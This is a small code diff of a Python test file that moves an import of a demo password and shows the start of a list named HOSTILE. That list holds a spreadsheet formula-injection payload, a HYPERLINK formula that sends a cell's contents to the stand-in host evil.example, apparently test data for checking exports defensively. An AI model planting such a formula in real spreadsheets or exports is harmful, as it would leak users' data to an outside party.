@@ -21,7 +21,7 @@ from trustworld import KEY_PASS, World, build_world, copy_world
 
 from desktop.audit.export import read_export
 from desktop.cli.main import main
-from desktop.records.demo import DEMO_PASSWORD
+from desktop.demo import DEMO_PASSWORD
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
